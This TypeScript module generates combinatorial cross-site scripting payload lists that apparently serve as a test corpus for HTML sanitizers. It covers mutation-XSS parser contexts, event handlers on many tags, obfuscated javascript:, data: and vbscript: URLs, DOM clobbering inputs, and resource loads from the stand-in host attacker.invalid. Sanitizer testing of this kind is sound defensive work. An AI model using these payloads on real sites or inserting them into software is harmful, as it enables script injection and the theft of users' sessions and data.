// Long lists of attacks, composed: of every place where a parser of HTML changes how it reads, and of everything that runs, loads,
// or takes a name. Whatever of it runs calls `__xss`.

const host = 'https://attacker.invalid'

/** Where reading changes, and what sanitizers took for harmless there. `%` is where the rest stands. */
const places: readonly string[] = [
  '%',
  '<div>%</div>',
  '<p title="%">x</p>',
  "<p title='%'>x</p>",
  '<!-- % -->',
  '<!--><!-- % -->',
  '<!%>',
  '<?x % ?>',
  '<![CDATA[ % ]]>',
  '</ %>',
  '<title>%</title>',
  '<textarea>%</textarea>',
  '<style>%</style>',
  '<xmp>%</xmp>',
  '<noscript><p title="</noscript>%">',
  '<noembed>%</noembed>',
  '<noframes></noframes>%',
  '<iframe><p title="</iframe>%">',
  '<plaintext>%',
  '<template>%</template>',
  '<div><template shadowrootmode=open>%</template></div>',
  '<select><option>%</option></select>',
  '<select><template>%</template></select>',
  '<table><tr>%</tr></table>',
  '<table><caption>%</table>',
  '<table><svg>%</table>',
  '<form><p></form><form>%',
  '<form><math><mtext></form><form>%',
  '<svg>%</svg>',
  '<svg></p><style><a id="</style>%">',
  '<svg><style><!--</style>%-->',
  '<svg><title>%</title></svg>',
  '<svg><desc>%</desc></svg>',
  '<svg><foreignObject>%</foreignObject></svg>',
  '<svg><script>%</script></svg>',
  '<svg><use href="data:image/svg+xml,%#x"></svg>',
  '<svg><a><animate attributeName=href values="%">x</a></svg>',
  '<math>%</math>',
  '<math><mtext>%</mtext></math>',
  '<math><mtext><table><mglyph><style>%',
  '<math><mi><mglyph></p>%',
  '<math><annotation-xml encoding="text/html">%</annotation-xml></math>',
  '<math><style><!--</style>%-->',
  '<a><a>%</a></a>',
  '<b><i></b>%</i>',
  '<button><button>%',
  '<dialog open>%</dialog>',
  '<details open ontoggle=__xss()>%',
  '<custom-element is=x>%',
  '<image>%',
]

/** What does something where it is read as markup. */
const deeds: readonly string[] = [
  '<img src=x onerror=__xss()>',
  '"><img src=x onerror=__xss()>',
  "'><img src=x onerror=__xss()>",
  '--><img src=x onerror=__xss()>',
  '</style><img src=x onerror=__xss()>',
  '</title></textarea></xmp></noembed></noscript><svg onload=__xss()>',
  '<script>__xss()</script>',
  `<iframe srcdoc="<script>parent.__xss()</script>"></iframe>`,
  '<a href="javascript:__xss()">x</a>',
  `<link rel=stylesheet href=${host}/x.css><style>@import "${host}/y.css"</style>`,
  '<form id=attributes name=nodeName><input name=parentNode><input name=attributes></form>',
  '<p id=__proto__ name=constructor class=button slot=x part=y style=position:fixed>x</p>',
]

/** What sanitizers have fallen for: every place with every deed in it. */
export const sanitizerAttacks: readonly string[] = places.flatMap((place) =>
  deeds.map((deed) => place.replace('%', () => deed)),
)

const tags =
  'a abbr audio b body button details div embed form frameset h1 iframe img input keygen label li link marquee math meter object p portal q select svg table td textarea tt video x-y'.split(
    ' ',
  )
const handlers =
  'onerror onload onclick onfocus onblur onmouseover onpointerenter onanimationstart ontransitionend ontoggle onbeforeinput oncopy onwheel onscrollend onbegin'.split(
    ' ',
  )

const schemes: readonly string[] = [
  'javascript:__xss()',
  'JaVaScRiPt:__xss()',
  ' javascript:__xss()',
  'java\tscript:__xss()',
  'java\nscript:__xss()',
  '\x01javascript:__xss()',
  'javascript&colon;__xss()',
  '&#106;&#97;vascript:__xss()',
  '&#x6A;avascript&#x3A;__xss()',
  'javascript:/*--></title></style>__xss()//',
  'data:text/html,<script>parent.__xss()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=__xss()>',
  'vbscript:__xss()',
  'livescript:__xss()',
  'feed:javascript:__xss()',
  'view-source:javascript:__xss()',
  '//attacker.invalid/x',
  'https://attacker.invalid/x',
]
const carriers: readonly string[] = [
  '<a href="%">x</a>',
  '<a xlink:href="%">x</a>',
  '<area href="%">',
  '<base href="%">',
  '<body background="%">',
  '<button formaction="%">x</button>',
  '<embed src="%">',
  '<form action="%"><input type=submit></form>',
  '<iframe src="%"></iframe>',
  '<img src="%">',
  '<img srcset="% 2x">',
  '<input type=image src="%">',
  '<link rel=stylesheet href="%">',
  '<meta http-equiv=refresh content="0;url=%">',
  '<object data="%"></object>',
  '<svg><image href="%"></svg>',
  '<svg><use href="%"></svg>',
  '<table background="%">',
  '<video poster="%"></video>',
  '<p style="background:url(%)">x</p>',
  '[x](%)',
  '![x](%)',
  '<%>',
  '[x]: %',
]

/** Ways to write one tag that a filter may not know for the same. */
const disguises: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}=__xss()>`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}="__xss()" autofocus tabindex=1>`,
  (tag, handler) => `<${tag}/x=">"/${handler}='__xss()'`,
]

/** Attacks on web pages: handlers on every sort of element, and addresses that run in everything that takes one. */
export const pageAttacks: readonly string[] = [
  ...tags.flatMap((tag) => handlers.map((handler, at) => (disguises[at % disguises.length] ?? String)(tag, handler))),
  ...carriers.flatMap((carrier) => schemes.map((scheme) => carrier.replace('%', () => scheme))),
]
